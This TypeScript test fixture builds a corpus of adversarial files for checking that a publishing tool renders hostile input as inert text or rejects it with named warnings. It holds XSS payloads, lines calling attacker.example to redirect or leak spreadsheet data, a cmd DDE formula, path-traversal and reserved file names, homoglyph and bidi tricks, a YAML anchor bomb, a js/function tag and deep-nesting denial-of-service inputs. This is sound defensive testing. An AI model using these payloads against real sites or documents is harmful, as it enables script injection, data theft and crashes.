/**
 * A corpus of attacks, all of our own making. `harmless` are texts that must be published as what they are, text;
 * `refused` are files that must be named in a message, with place, and cost no other article.
 */

/** What each attack tries to do to a reader: set a mark in the page. Nothing of it may ever run. */
const attack = 'window.attacked=true'

/** Ways to get from text into markup, script, style, address or template. */
export const payloads: readonly string[] = [
  `<script>${attack}</script>`,
  `</script><script>${attack}</script>`,
  `<img src=x onerror=${attack}>`,
  `"><img src=x onerror="${attack}">`,
  `'><svg onload='${attack}'>`,
  `<svg><script>${attack}</script><animate onbegin="${attack}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.${attack}</script>"></iframe>`,
  `</title></style></textarea></noscript><script>${attack}</script>`,
  `--><script>${attack}</script><!--`,
  `]]><script>${attack}</script>`,
  `<base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<style>@import "https://attacker.example/a.css";body{display:none}</style>`,
  `<link rel=stylesheet href=https://attacker.example/a.css><form action=https://attacker.example/><input name=q>`,
  `<a href="javascript:${attack}" onclick="${attack}">a link</a>`,
  `&lt;script&gt;${attack}&lt;/script&gt; &#60;img src=x onerror=${attack}&#62;`,
  `{${attack}} {{constructor.constructor('${attack}')()}} \${${attack}} <%= ${attack} %> <?= 1 ?> #{7*7}`,
  `{"@context":"https://schema.org","headline":"</script><script>${attack}</script>"}`,
  `=HYPERLINK("https://attacker.example/?"&A1,"open")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `javascript:${attack}//`,
  `data:text/html,<script>${attack}</script>`,
]

/** Lines that make a text of its own out of a payload: with a quotation, a speaker, figures. */
const tell = (payload: string, index: number): readonly string[] => [
  `The harbour master read out line ${index} of the log on Monday: ${payload}`,
  `“We found ${payload} in the log,” Ana Prieto ${payload} said.`,
  `“It held 5,${String(100 + index)} tonnes of ${payload} and 12 percent ${payload},” said ${payload.slice(0, 30)} Lund.`,
]

const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`

const long = 'Very '.repeat(80)

/** Titles that would be bad names of files, or two of which would be one name somewhere. */
export const titles: readonly string[] = [
  '../../../etc/passwd',
  '/etc/passwd',
  'C:\\\\Windows\\\\system32',
  'CON',
  'nul.html',
  'aux',
  '.htaccess',
  '__proto__',
  'constructor',
  'index.html',
  'Losses of \u200b5,000',
  `${long}long`,
  'Harbour',
  'HARBOUR',
  'harbour',
  'Hаrbour',
  'Ｈarbour',
  'Harb\u00f6ur',
  'Harbo\u0308ur',
  '%2e%2e%2f%2e%2e%2fetc',
  '🛶',
  '‮gnp.txt',
  '?q=1#x',
]

/** Files by name; all of them are published. */
export function toHarmless(): ReadonlyMap<string, string | Uint8Array> {
  const files = new Map<string, string | Uint8Array>()
  payloads.forEach((payload, index) => {
    files.set(`text-${index}.txt`, tell(payload, index).join('\n'))
    files.set(
      `markdown-${index}.md`,
      `# Log ${index} ${payload}\n\n${tell(payload, index + 100).join('\n\n')}\n\n${payload}\n`,
    )
    files.set(
      `page-${index}.html`,
      `<!doctype html><html><head><title>Page ${index} ${payload}</title><link rel="canonical" href="javascript:${attack}"><script type="application/ld+json">{"@type":"NewsArticle","headline":${JSON.stringify(`Log ${index} ${payload}`).replaceAll('<!--', '\\u003c!--')},"author":{"name":${JSON.stringify(payload).replaceAll('<!--', '\\u003c!--')}}}</script></head><body onload="${attack}"><article>${tell(
        payload,
        index + 200,
      )
        .map((line) => `<p onclick="${attack}">${line}</p>`)
        .join('\n')}</article></body></html>`,
    )
    files.set(
      `front-${index}.md`,
      `---\ntitle: ${quoted(`Front ${index} ${payload}`)}\noutlet: ${quoted(payload)}\nauthors: [${quoted(payload)}]\nnote: ${quoted(payload)}\n---\n\nThe harbour opened on day ${index} of the year.\n`,
    )
  })
  titles.forEach((title, index) => {
    files.set(`title-${index}.txt`, `The boats of pier ${index} came in late again on Monday.`)
    files.set(`title-${index}.yaml`, `title: ${JSON.stringify(title)}`)
  })
  files.set(
    'bidi.txt',
    '\u202eThe boats\u202c came \u2066in\u2069 late, and \u200f5\u200e tonnes \ufeffwere lost.',
  )
  files.set(
    'half.txt',
    Uint8Array.from([...new TextEncoder().encode('Half a letter: '), 0xed, 0xa0, 0x80, 0x2e]),
  )
  files.set('nul-inside.md', `${'A plain line of text for the harbour. '.repeat(300)}\u0000 and on.`)
  for (const [name, unit] of Object.entries({
    marks: '“',
    straight: '" ',
    digits: '1,',
    nested: '([{',
    commas: ', ',
  }))
    files.set(`trap-${name}.txt`, `The log of ${name} follows here.\n${unit.repeat(20_000 / unit.length)}`)
  // Speakers whose pages would stand where others do, or share one.
  const callers = ['Mr. Index', 'Ms. Terms', 'Mr. Page', 'Ms. By Name', 'Mr. Con', 'Мария Лунд', 'Иван Лунд']
  files.set(
    'callers.txt',
    callers
      .map((caller, index) => `“Pier ${index} is closed to all,” said ${caller} on Monday.`)
      .join('\n\n'),
  )
  files.set('-rf.txt', 'A file whose name is an option is a file.')
  files.set('a;b $(c) `d` \'e\' "f" & <g>.txt', 'A file whose name is a command line is a file.')
  files.set('sub/../up.txt', 'A file is where it is.')
  const name = payloads[3] ?? ''
  files.set(
    'people.yaml',
    `- { id: constructor-x, name: ${quoted(`Aux ${name}`)}, role: ${quoted(name)}, aliases: [${quoted('Ana Prieto')}] }\n- { id: constructor, name: Mara Lund }\n`,
  )
  files.set(
    'topics.yaml',
    `- { id: proto, label: ${quoted(`Boats ${name}`)}, summary: ${quoted(payloads[1] ?? '')}, terms: [boats, harbour, log] }\n- { id: constructor, label: Pier, terms: [pier] }\n`,
  )
  files.set(
    'measures.yaml',
    `- { id: tostring, label: ${quoted(`Tonnes ${name}`)}, terms: [tonnes], dimension: mass, unit: tonne }\n`,
  )
  return files
}

const anchors = Array.from({ length: 9 }, (_, index) =>
  index === 0 ? '&a0 [x, x, x, x, x, x, x, x]' : `&a${index} [${`*a${index - 1}, `.repeat(8)}x]`,
)

/** Files by name, each with the severity and rule of the message it must get; the texts in them may still be read. */
export const refused: readonly (readonly [string, string, 'error' | 'warning', string])[] = [
  [
    'bomb.md',
    `---\ntitle: ${anchors.map((each, index) => `\n  k${index}: ${each}`).join('')}\n---\n\nText.`,
    'warning',
    'wrong-type',
  ],
  [
    'tag.md',
    '---\ntitle: !!js/function "function(){process.exit()}"\n---\n\nText of a tag.',
    'warning',
    'yaml',
  ],
  ['tag.toml.md', '+++\ntitle = "x\n+++\n\nText of TOML.', 'error', 'toml'],
  ['merge.md', '---\n<<: { title: x }\n---\n\nText of a merge.', 'warning', 'unknown-key'],
  ['proto.md', '---\n__proto__: { title: x }\n---\n\nText of a prototype.', 'warning', 'unknown-key'],
  ['scheme.md', `---\ntitle: x\nurl: javascript:${attack}\n---\n\nText of a scheme.`, 'warning', 'url'],
  ['data.md', '---\ntitle: y\nurl: data:text/html,x\n---\n\nText of data.', 'warning', 'url'],
  ['link.md', `# A link\n\nText with [a link](javascript:${attack}) in it.`, 'warning', 'link'],
  ['deep.html', `${'<div>'.repeat(20_000)}x`, 'error', 'nesting'],
  ['deeper.html', `${'<div>'.repeat(500)}x`, 'error', 'nesting'],
  [
    'letters.html',
    Array.from({ length: 5_000 }, (_, index) => `<b id=${index}><p>a`).join(''),
    'error',
    'nesting',
  ],
  ['deep-list.md', `${'> '.repeat(5_000)}x`, 'warning', 'nesting'],
  [
    'deep-item.md',
    Array.from({ length: 500 }, (_, index) => `${'  '.repeat(index)}- a`).join('\n'),
    'warning',
    'nesting',
  ],
  ['deep.yaml', 'x', 'warning', 'file'],
  ['binary.txt', '\u0000\u0001\u0002', 'error', 'file'],
  ['empty.txt', '', 'warning', 'empty'],
  ['people.yaml', '- { id: aux, name: A }', 'error', 'table'],
  ['topics.yaml', '- { id: ../../x, label: A, terms: [boat] }', 'error', 'table'],
  [
    'measures.yaml',
    `- { id: ${'a'.repeat(300)}, label: A, terms: [boat], dimension: mass }`,
    'error',
    'table',
  ],
]
